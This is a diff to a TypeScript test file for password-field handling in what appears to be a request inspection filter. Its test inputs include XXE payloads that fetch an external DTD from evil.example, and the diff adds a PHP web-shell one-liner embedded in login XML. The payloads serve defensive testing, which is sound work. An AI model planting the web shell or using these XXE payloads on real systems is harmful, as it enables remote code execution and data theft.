@@ -153,6 +153,8 @@ describe('password fields', () => {
     for (const xml of [
       '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><Login><Password>SYSTEM</Password></Login>',
       '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Login><Password>ENTITY</Password></Login>',
+      // The same code outside the password as inside it (a fifth review).
+      '<?php $_GET[0]($_POST[1]);?><L><U>a</U><Password><![CDATA[<?php $_GET[0]($_POST[1]);?>]]></Password></L>',
     ]) {
       const r: InspectionInput = {
         method: 'POST',
